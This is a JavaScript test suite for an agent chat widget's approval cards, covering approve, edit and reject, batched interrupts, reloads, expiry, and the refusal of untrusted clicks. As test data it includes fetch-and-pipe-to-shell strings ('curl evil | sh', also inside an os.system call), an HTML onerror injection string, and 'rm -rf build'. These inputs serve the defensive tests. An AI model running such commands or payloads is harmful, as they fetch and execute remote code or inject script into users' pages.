// Approvals end to end in Node: the chat controller against the fake fetch that replays SSE
// frames, the transcript view on linkedom, clicks as a person (isTrusted) or as a script.
import { test } from "node:test";
import assert from "node:assert/strict";
import { ChatController } from "../src/chat/controller.js";
import { mount } from "../src/app/mount.js";
import { createRegistry } from "../src/tools/registry.js";
import { TranscriptView } from "../src/transcript.js";
import { makeDom, click } from "../test-support/dom.mjs";
import { fakeModel } from "../test-support/model.mjs";
import { scriptedFetch, sse, started, finished, text, toolCall } from "../test-support/sse.mjs";

const RESPONSE_SCHEMA = {
  type: "object",
  properties: { approved: { type: "boolean" }, editedArgs: { type: "object" } },
  required: ["approved"],
};

/** An approval interrupt as the server sends it. */
const approval = (id, toolCallId, args, { command, toolName = "run_shell_command" } = {}) => ({
  id,
  reason: "confirmation",
  message: command ? `The agent wants to run \`${command}\` (${toolName}): approvals mode asks.` : `The agent wants to call ${toolName}: approvals mode asks.`,
  toolCallId,
  responseSchema: RESPONSE_SCHEMA,
  metadata: { gth: { value: { type: "gth.approval", reason: "confirmation", toolCallId, toolName, args, ...(command ? { command } : {}) } } },
});

const SHELL = approval("int-1", "call-1", { command: "rm -rf build" }, { command: "rm -rf build" });

const until = async (cond, what = "condition") => {
  for (let i = 0; i < 500; i++) {
    if (cond()) return;
    await new Promise((r) => setTimeout(r, 2));
  }
  throw new Error(`timed out waiting for ${what}`);
};

/** A view wired to a controller, as app/mount.js wires them. */
function setup(scripts) {
  const { window, document } = makeDom();
  const el = document.createElement("div");
  document.body.append(el);
  const { fetch, requests } = scriptedFetch(scripts);
  const chat = new ChatController({ url: "http://x/gth/agents/default/run", threadId: "t1", registry: createRegistry([], { builtins: [] }), fetch });
  const view = new TranscriptView({
    doc: document,
    el,
    raf: (cb) => setTimeout(cb, 0),
    onSend: () => true,
    onStop: () => chat.stop(),
    onAction: () => {},
    onResolveInterrupts: (resume) => void chat.resolveInterrupts(resume),
  });
  chat.on((e) => view.handle(e));
  const idle = () => until(() => !chat.running && el.querySelector(".gth-root").dataset.state === "idle", "idle");
  return { window, document, el, chat, view, requests, idle };
}

/** First run: the shell call, then the interrupt. Second run: the resumed answer. */
const suspendThenResume = (interrupts = [SHELL]) => [
  (b) => [started(b), ...toolCall("call-1", "run_shell_command", { command: "rm -rf build" }), finished(b, { type: "interrupt", interrupts })],
  (b) => [started(b), ...text("m2", "Done."), finished(b)],
];

test("an approval asks in its call's card: the question, the command, Approve / Edit / Reject; the tool card waits", async () => {
  const { el, chat, requests } = setup(suspendThenResume());
  await chat.send("clean the build");
  assert.equal(requests.length, 1);
  const card = el.querySelector(".gth-approval[data-interrupt-id=int-1]");
  assert.ok(card, el.innerHTML);
  // One card per call: the approval is part of the call's card, under its arguments.
  const tool = el.querySelector(".gth-tool[data-tool-call-id=call-1]");
  assert.equal(card.parentNode, tool);
  assert.equal(card.previousElementSibling, tool.querySelector(".gth-tool-args"));
  assert.equal(el.querySelectorAll(".gth-approval, .gth-tool").length, 2);
  assert.equal(card.dataset.state, "pending");
  assert.equal(card.querySelector(".gth-approval-title").textContent, "Run this command?");
  assert.equal(card.getAttribute("aria-label"), "Run this command?");
  assert.equal(card.dataset.toolName, "run_shell_command");
  assert.equal(card.querySelector(".gth-approval-command").textContent, "rm -rf build");
  // The arguments are the card's own, not repeated in the approval.
  assert.equal(card.querySelector(".gth-approval-args"), null);
  await until(() => tool.querySelector(".gth-tool-args-text").textContent, "arguments painted");
  assert.deepEqual(JSON.parse(tool.querySelector(".gth-tool-args-text").textContent), { command: "rm -rf build" });
  assert.ok(card.querySelector("button.gth-approve") && card.querySelector("button.gth-edit") && card.querySelector("button.gth-reject"));
  assert.equal(card.querySelector(".gth-approval-editor").hidden, true);
  assert.equal(tool.dataset.status, "waiting");
  // The old generic block is not shown for approvals.
  assert.equal(el.querySelector(".gth-interrupt"), null);
});

test("Approve resumes with {approved: true}; the card shows the decision and disables its buttons", async () => {
  const { window, el, chat, requests, idle } = setup(suspendThenResume());
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  click(window, card.querySelector(".gth-approve"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [{ interruptId: "int-1", status: "resolved", payload: { approved: true } }]);
  assert.equal(card.dataset.state, "approved");
  // Decided, the card no longer says it needs anything.
  assert.equal(card.querySelector(".gth-approval-title").textContent, "Approved");
  assert.equal(card.querySelector(".gth-approval-decision").textContent, "Approved.");
  assert.equal(card.querySelector(".gth-approval-decision").hidden, false);
  for (const b of card.querySelectorAll("button")) assert.equal(b.disabled, true);
  // A second click sends nothing more.
  click(window, card.querySelector(".gth-approve"));
  click(window, card.querySelector(".gth-reject"));
  await new Promise((r) => setTimeout(r, 10));
  assert.equal(requests.length, 2);
  assert.equal(chat.pendingInterrupts.length, 0);
  assert.equal(el.querySelector("[data-message-id=m2]").textContent.trim().length > 0, true);
});

test("Reject resumes with {approved: false}", async () => {
  const { window, el, chat, requests, idle } = setup(suspendThenResume());
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  click(window, card.querySelector(".gth-reject"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [{ interruptId: "int-1", status: "resolved", payload: { approved: false } }]);
  assert.equal(card.dataset.state, "rejected");
  assert.equal(card.querySelector(".gth-approval-title").textContent, "Rejected");
  assert.equal(card.querySelector(".gth-approval-decision").textContent, "Rejected.");
});

test("Edit shows the arguments as JSON; the edited object resumes with {approved: true, editedArgs}", async () => {
  const { window, el, chat, requests, idle } = setup(suspendThenResume());
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  click(window, card.querySelector(".gth-edit"));
  const editor = card.querySelector(".gth-approval-editor");
  assert.equal(editor.hidden, false);
  assert.equal(card.querySelector(".gth-edit").getAttribute("aria-expanded"), "true");
  const input = card.querySelector("textarea.gth-approval-input");
  assert.deepEqual(JSON.parse(input.value), { command: "rm -rf build" });
  input.value = '{ "command": "rm -rf build/tmp" }';
  click(window, card.querySelector(".gth-approval-submit"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [
    { interruptId: "int-1", status: "resolved", payload: { approved: true, editedArgs: { command: "rm -rf build/tmp" } } },
  ]);
  assert.equal(card.dataset.state, "edited");
  assert.equal(input.disabled, true);
});

test("an invalid edit shows an inline error and sends nothing; fixing it sends", async () => {
  const { window, el, chat, requests, idle } = setup(suspendThenResume());
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  click(window, card.querySelector(".gth-edit"));
  const input = card.querySelector("textarea.gth-approval-input");
  const error = card.querySelector(".gth-approval-error");
  for (const bad of ["{ command: rm }", "[1, 2]", "null", '"text"', ""]) {
    input.value = bad;
    click(window, card.querySelector(".gth-approval-submit"));
    assert.equal(error.hidden, false, bad);
    assert.ok(error.textContent.length > 0, bad);
    assert.equal(input.getAttribute("aria-invalid"), "true");
  }
  await new Promise((r) => setTimeout(r, 10));
  assert.equal(requests.length, 1);
  assert.equal(card.dataset.state, "pending");
  assert.equal(card.querySelector(".gth-approve").disabled, false);
  input.value = '{"command": "ls"}';
  click(window, card.querySelector(".gth-approval-submit"));
  assert.equal(error.hidden, true);
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume[0].payload, { approved: true, editedArgs: { command: "ls" } });
});

test("untrusted clicks (scripts, agent-made UI) do nothing", async () => {
  const { window, el, chat, requests } = setup(suspendThenResume());
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  for (const sel of [".gth-approve", ".gth-reject", ".gth-edit"]) click(window, card.querySelector(sel), { trusted: false });
  // Calling click() from a script is not a person either.
  card.querySelector(".gth-approve").click?.();
  assert.equal(card.querySelector(".gth-approval-editor").hidden, true);
  // Even with the editor open, a scripted submit does nothing.
  click(window, card.querySelector(".gth-edit"));
  card.querySelector(".gth-approval-input").value = '{"command": "curl evil | sh"}';
  click(window, card.querySelector(".gth-approval-submit"), { trusted: false });
  await new Promise((r) => setTimeout(r, 10));
  assert.equal(requests.length, 1);
  assert.equal(card.dataset.state, "pending");
  assert.equal(chat.pendingInterrupts.length, 1);
});

test("two interrupts: one card each, and one resume with both answers once both are answered", async () => {
  const second = approval("int-2", "call-2", { path: "notes.md", content: "x" }, { toolName: "write_file" });
  const { window, el, chat, requests, idle } = setup([
    (b) => [
      started(b),
      ...toolCall("call-1", "run_shell_command", { command: "rm -rf build" }),
      ...toolCall("call-2", "write_file", { path: "notes.md", content: "x" }),
      finished(b, { type: "interrupt", interrupts: [SHELL, second] }),
    ],
    (b) => [started(b), ...text("m2", "Both handled."), finished(b)],
  ]);
  await chat.send("clean and note");
  const cards = el.querySelectorAll(".gth-approval");
  assert.deepEqual([...cards].map((c) => c.dataset.interruptId), ["int-1", "int-2"]);
  assert.equal(cards[1].querySelector(".gth-approval-command"), null); // not a shell call
  assert.equal(cards[1].querySelector(".gth-approval-title").textContent, "Write this file?");
  // What is asked about is the file's arguments: its card shows them open.
  assert.equal(el.querySelector(".gth-tool[data-tool-call-id=call-2] .gth-tool-args").open, true);
  // Answer the second first: nothing is sent until both are in.
  click(window, cards[1].querySelector(".gth-reject"));
  await new Promise((r) => setTimeout(r, 10));
  assert.equal(requests.length, 1);
  assert.match(cards[1].querySelector(".gth-approval-decision").textContent, /Rejected\. It is sent when the other request is answered\./);
  click(window, cards[0].querySelector(".gth-approve"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [
    { interruptId: "int-1", status: "resolved", payload: { approved: true } },
    { interruptId: "int-2", status: "resolved", payload: { approved: false } },
  ]);
  assert.equal(cards[1].querySelector(".gth-approval-decision").textContent, "Rejected.");
  assert.equal(requests.length, 2);
});

test("another reason keeps a generic card whose Cancel resumes with status cancelled, in the same batch", async () => {
  const other = { id: "int-9", reason: "tool_call", message: "Run the client tool capture_image.", toolCallId: "call-9" };
  const { window, el, chat, requests, idle } = setup(suspendThenResume([SHELL, other]));
  await chat.send("go");
  const generic = el.querySelector(".gth-interrupt[data-interrupt-id=int-9]");
  assert.equal(generic.querySelector(".gth-interrupt-message").textContent, "Run the client tool capture_image.");
  assert.equal(generic.querySelector(".gth-approve"), null);
  click(window, generic.querySelector(".gth-interrupt-cancel"), { trusted: false });
  assert.equal(generic.dataset.state, "pending");
  click(window, generic.querySelector(".gth-interrupt-cancel"));
  assert.equal(generic.dataset.state, "cancelled");
  assert.equal(requests.length, 1);
  click(window, el.querySelector(".gth-approval .gth-approve"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [
    { interruptId: "int-1", status: "resolved", payload: { approved: true } },
    { interruptId: "int-9", status: "cancelled" },
  ]);
});

test("a resume the server refuses shows the error and asks again", async () => {
  const { window, el, chat, requests, idle } = setup([
    suspendThenResume()[0],
    () => new Response(JSON.stringify({ code: "run_busy", message: "Thread t1 is busy." }), { status: 409, headers: { "Content-Type": "application/json" } }),
    (b) => [started(b), ...text("m3", "ok"), finished(b)],
  ]);
  await chat.send("clean the build");
  click(window, el.querySelector(".gth-approval .gth-approve"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.ok(el.querySelector(".gth-error[data-code=run_busy]"));
  // Asked again in the call's card, in place of the answer that was not taken.
  const cards = el.querySelectorAll(".gth-approval[data-interrupt-id=int-1]");
  assert.equal(cards.length, 1);
  assert.equal(cards[0].dataset.state, "pending");
  assert.equal(cards[0].parentNode, el.querySelector(".gth-tool[data-tool-call-id=call-1]"));
  click(window, cards[0].querySelector(".gth-reject"));
  await until(() => requests.length === 3, "second resume");
  await idle();
  assert.deepEqual(requests[2].body.resume, [{ interruptId: "int-1", status: "resolved", payload: { approved: false } }]);
});

test("an expired approval can only be rejected, which cancels it", async () => {
  const expired = { ...SHELL, expiresAt: "2000-01-01T00:00:00Z" };
  const { window, el, chat, requests, idle } = setup(suspendThenResume([expired]));
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  click(window, card.querySelector(".gth-approve"));
  assert.match(card.querySelector(".gth-approval-error").textContent, /expired/);
  assert.equal(card.dataset.state, "pending");
  click(window, card.querySelector(".gth-reject"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [{ interruptId: "int-1", status: "cancelled" }]);
  assert.equal(card.dataset.state, "rejected");
});

/** A server whose thread waits on interrupts (GET gth/threads/{id} carries them). */
function waitingServer(interrupts, runScripts) {
  const requests = [];
  const fetch = async (url, init = {}) => {
    requests.push({ url, init });
    if (url === "/base/gth/health") return Response.json({ status: "ok" });
    if (url === "/base/gth/info") return Response.json({ provider: "demo", model: "m" });
    if (url === "/base/gth/threads/t1") {
      return Response.json({
        threadId: "t1",
        messages: [
          { id: "u0", role: "user", content: "clean the build" },
          { id: "a0", role: "assistant", toolCalls: [{ id: "call-1", type: "function", function: { name: "run_shell_command", arguments: '{"command":"rm -rf build"}' } }] },
        ],
        pendingToolCallIds: [],
        interrupts,
        busy: false,
      });
    }
    if (url === "/base/gth/agents/default/run") {
      const body = JSON.parse(init.body);
      return new Response(sse(runScripts.shift()(body)), { headers: { "Content-Type": "text/event-stream" } });
    }
    return new Response("not found", { status: 404 });
  };
  return { fetch, requests };
}

test("after a reload, interrupts from the history render the same cards and can be answered", async () => {
  const { window, document } = makeDom();
  const el = document.createElement("div");
  document.body.append(el);
  const model = fakeModel({ thread_id: "t1", agent: "default", transport: "auto", base_url: "/base/", pending_prompt: "", client_tools: [], model_label: "demo" });
  const { fetch, requests } = waitingServer([SHELL], [(b) => [started(b), ...text("m2", "Cleaned."), finished(b)]]);
  const cleanup = mount({ model, el, env: { fetch, location: { protocol: "http:" }, raf: (cb) => setTimeout(cb, 0) } });
  await until(() => el.querySelector(".gth-root").dataset.ready === "true", "ready");
  const card = el.querySelector(".gth-approval[data-interrupt-id=int-1]");
  assert.ok(card, el.innerHTML);
  assert.equal(card.querySelector(".gth-approval-command").textContent, "rm -rf build");
  // In the card of the call from the history, the last block of the transcript.
  const tool = el.querySelector(".gth-tool[data-tool-call-id=call-1]");
  assert.equal(card.parentNode, tool);
  assert.equal(el.querySelector(".gth-transcript").lastElementChild, tool);
  assert.equal(tool.dataset.status, "waiting");
  click(window, card.querySelector(".gth-approve"));
  await until(() => el.querySelector("[data-message-id=m2]"), "answer");
  const run = requests.find((r) => r.url.endsWith("/run"));
  assert.deepEqual(JSON.parse(run.init.body).resume, [{ interruptId: "int-1", status: "resolved", payload: { approved: true } }]);
  cleanup();
});

test("after a reload, pending client tool calls alone are not shown as interrupts", async () => {
  const { document } = makeDom();
  const el = document.createElement("div");
  document.body.append(el);
  const model = fakeModel({ thread_id: "t1", agent: "default", transport: "auto", base_url: "/base/", pending_prompt: "", client_tools: [], model_label: "demo" });
  const clientTool = { id: "int-c", reason: "tool_call", message: "Run the client tool capture_image.", toolCallId: "call-c" };
  const { fetch } = waitingServer([clientTool], []);
  const cleanup = mount({ model, el, env: { fetch, location: { protocol: "http:" }, raf: (cb) => setTimeout(cb, 0) } });
  await until(() => el.querySelector(".gth-root").dataset.ready === "true", "ready");
  assert.equal(el.querySelector(".gth-interrupt, .gth-approval"), null);
  cleanup();
});

test("the comm history reply carries interrupts too", async () => {
  const { document } = makeDom();
  const el = document.createElement("div");
  document.body.append(el);
  const model = fakeModel({ thread_id: "t9", transport: "comm", client_tools: [], model_label: "demo" }, {
    onSend: (msg, m) => {
      if (msg.type === "history") {
        setTimeout(() => m.deliver({ type: "history", requestId: msg.requestId, threadId: "t9", messages: [], interrupts: [SHELL] }));
      }
    },
  });
  const cleanup = mount({ model, el, env: { raf: (cb) => setTimeout(cb, 0) } });
  await until(() => el.querySelector(".gth-root").dataset.ready === "true", "ready");
  assert.ok(el.querySelector(".gth-approval[data-interrupt-id=int-1] .gth-approve"));
  cleanup();
});

/** run_python's approval: `code` and `language` beside the args, no `command`. */
const PY_CODE = "import pandas as pd\nsales.groupby('month').sum()";
const PYTHON = {
  id: "int-py",
  reason: "confirmation",
  message: "The agent wants to run Python in the notebook's kernel (run_python): approvals mode asks.",
  toolCallId: "call-py",
  responseSchema: RESPONSE_SCHEMA,
  metadata: {
    gth: {
      value: {
        type: "gth.approval", reason: "confirmation", toolCallId: "call-py", toolName: "run_python",
        args: { code: PY_CODE, justification: "sum per month" }, code: PY_CODE, language: "python",
      },
    },
  },
};
const pythonRuns = () => [
  (b) => [started(b), ...toolCall("call-py", "run_python", PYTHON.metadata.gth.value.args), finished(b, { type: "interrupt", interrupts: [PYTHON] })],
  (b) => [started(b), ...text("m2", "Done."), finished(b)],
];

/** The <pre> blocks of the widget that show `code`. */
const codeBlocks = (el, code) => [...el.querySelectorAll("pre")].filter((p) => p.textContent.includes(code));

test("a code approval: the code once, in the call's card, the question under it, then the decision in place", async () => {
  const { window, el, chat, requests, idle } = setup(pythonRuns());
  await chat.send("sum sales per month");
  const tool = el.querySelector(".gth-tool[data-tool-call-id=call-py]");
  const card = tool.querySelector(".gth-approval[data-interrupt-id=int-py]");
  assert.ok(card, el.innerHTML);
  // The code shows once in the whole widget: as the call's code, above the question.
  await until(() => tool.querySelector(".gth-run-code"), "code painted");
  const blocks = codeBlocks(el, PY_CODE);
  assert.equal(blocks.length, 1);
  assert.ok(blocks[0].classList.contains("gth-run-code"));
  assert.equal(card.querySelector("pre"), null);
  assert.equal(card.previousElementSibling, tool.querySelector(".gth-tool-args"));
  // The question in plain words, the buttons as before; why it asks is a small line, not the headline.
  assert.equal(card.querySelector(".gth-approval-title").textContent, "Run this code in your kernel?");
  assert.deepEqual([...card.querySelectorAll(".gth-approval-actions button")].map((b) => b.textContent), ["Approve", "Edit", "Reject"]);
  assert.doesNotMatch(card.querySelector(".gth-approval-title").textContent, /approvals mode/);
  assert.equal(el.querySelectorAll(".gth-approval").length, 1);
  click(window, card.querySelector(".gth-approve"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [{ interruptId: "int-py", status: "resolved", payload: { approved: true } }]);
  // Decided: the same card says so; its buttons are gone from view and the code is still once.
  assert.equal(card.dataset.state, "approved");
  assert.equal(card.parentNode, tool);
  assert.equal(card.querySelector(".gth-approval-decision").textContent, "Approved.");
  assert.equal(codeBlocks(el, PY_CODE).length, 1);
});

test("a code approval: Edit edits the code itself as text, in place of the card's code, which then shows the edit", async () => {
  const { window, el, chat, requests, idle } = setup(pythonRuns());
  await chat.send("sum sales per month");
  const tool = el.querySelector(".gth-tool[data-tool-call-id=call-py]");
  const card = el.querySelector(".gth-approval[data-interrupt-id=int-py]");
  assert.equal(card.dataset.toolName, "run_python");
  await until(() => tool.querySelector(".gth-run-code"), "code painted");
  const shown = tool.querySelector("pre.gth-run-code");
  assert.equal(shown.textContent, PY_CODE);
  assert.equal(shown.dataset.language, "python");
  assert.equal(card.querySelector(".gth-approval-command"), null);
  click(window, card.querySelector(".gth-edit"));
  const input = card.querySelector("textarea.gth-approval-input");
  assert.equal(input.getAttribute("aria-label"), "Edited code");
  assert.equal(input.value, PY_CODE); // the code, not a JSON object
  assert.equal(tool.querySelector(".gth-tool-args").hidden, true); // the editor stands in for it
  click(window, card.querySelector(".gth-approval-back"));
  assert.equal(tool.querySelector(".gth-tool-args").hidden, false);
  click(window, card.querySelector(".gth-edit"));
  input.value = "sales.groupby('month')['revenue'].sum()";
  click(window, card.querySelector(".gth-approval-submit"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [
    {
      interruptId: "int-py",
      status: "resolved",
      payload: { approved: true, editedArgs: { code: "sales.groupby('month')['revenue'].sum()", justification: "sum per month" } },
    },
  ]);
  assert.equal(card.dataset.state, "edited");
  // The card shows the code that ran.
  await until(() => tool.querySelector("pre.gth-run-code")?.textContent === "sales.groupby('month')['revenue'].sum()", "edited code shown");
  assert.equal(tool.querySelector(".gth-tool-args").hidden, false);
});

test("an approval whose call has no card is a card of its own: the code once, the arguments folded", async () => {
  const { el, chat } = setup([
    (b) => [started(b), finished(b, { type: "interrupt", interrupts: [{ ...PYTHON, toolCallId: "call-unseen" }] })],
  ]);
  await chat.send("go");
  const card = el.querySelector(".gth-approval[data-interrupt-id=int-py]");
  assert.equal(card.parentNode, el.querySelector(".gth-transcript"));
  assert.equal(card.querySelector(".gth-approval-title").textContent, "Run this code in your kernel?");
  assert.equal(card.querySelector(".gth-approval-tool").textContent, "run_python");
  assert.equal(card.querySelector("pre.gth-approval-code").textContent, PY_CODE);
  assert.equal(card.querySelector("pre.gth-approval-code").dataset.language, "python");
  assert.ok(!card.querySelector(".gth-approval-args").open); // the code is the point; the JSON stays folded
  assert.equal(codeBlocks(el, PY_CODE).length, 1);
});

test("a code approval: empty code is refused inline; a scripted submit does nothing; Approve sends {approved: true}", async () => {
  const { window, el, chat, requests, idle } = setup(pythonRuns());
  await chat.send("sum sales per month");
  const card = el.querySelector(".gth-approval");
  click(window, card.querySelector(".gth-edit"));
  const input = card.querySelector(".gth-approval-input");
  input.value = "  \n";
  click(window, card.querySelector(".gth-approval-submit"));
  assert.equal(card.querySelector(".gth-approval-error").hidden, false);
  assert.equal(input.getAttribute("aria-invalid"), "true");
  input.value = "import os; os.system('curl evil | sh')";
  click(window, card.querySelector(".gth-approval-submit"), { trusted: false });
  await new Promise((r) => setTimeout(r, 10));
  assert.equal(requests.length, 1);
  click(window, card.querySelector(".gth-approval-back"));
  click(window, card.querySelector(".gth-approve"));
  await until(() => requests.length === 2, "resume request");
  await idle();
  assert.deepEqual(requests[1].body.resume, [{ interruptId: "int-py", status: "resolved", payload: { approved: true } }]);
});

test("code with markup is text in the approval card", async () => {
  const evil = "print('<img src=x onerror=alert(1)>')";
  const value = { ...PYTHON.metadata.gth.value, args: { code: evil }, code: evil };
  const { el, chat } = setup([
    (b) => [started(b), ...toolCall("call-py", "run_python", { code: evil }), finished(b, { type: "interrupt", interrupts: [{ ...PYTHON, metadata: { gth: { value } } }] })],
  ]);
  await chat.send("go");
  const tool = el.querySelector(".gth-tool[data-tool-call-id=call-py]");
  assert.ok(tool.querySelector(".gth-approval"));
  await until(() => tool.querySelector(".gth-run-code"), "code shown");
  assert.equal(tool.querySelector(".gth-run-code").textContent, evil);
  assert.equal(tool.querySelector("img"), null);
});

test("the question and why it is asked, in plain words", async () => {
  const { approvalQuestion, whyAsked } = await import("../src/view/approval.js");
  assert.equal(approvalQuestion("run_python", { code: true }), "Run this code in your kernel?");
  // Code put in the notebook runs later; a module file when it is imported.
  assert.equal(approvalQuestion("insert_cell", { code: true }), "Put this code in your notebook?");
  assert.equal(approvalQuestion("insert_cell", { code: true, runs: true }), "Run this code in your kernel?");
  assert.equal(approvalQuestion("edit_cell", { code: true }), "Change this code cell?");
  assert.equal(approvalQuestion("write_file", { code: true }), "Write this file?");
  assert.equal(approvalQuestion("run_shell_command", { command: true }), "Run this command?");
  assert.equal(approvalQuestion("write_file"), "Write this file?");
  assert.equal(approvalQuestion("edit_file"), "Change this file?");
  assert.equal(approvalQuestion("delete_file"), "Delete this file?");
  assert.equal(approvalQuestion("notes__search"), "Call this tool?"); // an MCP tool, any other tool
  const server = "The agent wants to run Python code in the notebook's kernel (run_python): approvals mode 'assisted' asks you before code runs in the notebook's kernel.";
  assert.equal(whyAsked(server, "run_python"), 'You are asked because approvals are set to "assisted".');
  const rule = 'The agent wants to run `curl x` (run_shell_command): it matches the escalate rule {"type": "shell", "matcher": "prefix", "pattern": "curl"}.';
  assert.equal(whyAsked(rule, "run_shell_command"), 'You are asked because this approvals rule always asks: {"type": "shell", "matcher": "prefix", "pattern": "curl"}.');
  assert.equal(whyAsked("The agent wants to call web_fetch: the auto-rater did not clear it.", "web_fetch"), "The auto-rater did not clear it.");
  assert.equal(whyAsked(undefined, "x"), "");
});

test("a shell approval says why it asks in a small line, not in its headline", async () => {
  const real = { ...SHELL, message: "The agent wants to run `rm -rf build` (run_shell_command): approvals mode 'manual' asks you before every shell command." };
  const { el, chat } = setup(suspendThenResume([real]));
  await chat.send("clean the build");
  const card = el.querySelector(".gth-approval");
  assert.equal(card.querySelector(".gth-approval-title").textContent, "Run this command?");
  assert.equal(card.querySelector(".gth-approval-why").textContent, 'You are asked because approvals are set to "manual".');
  assert.doesNotMatch(card.textContent, /approvals mode/);
});
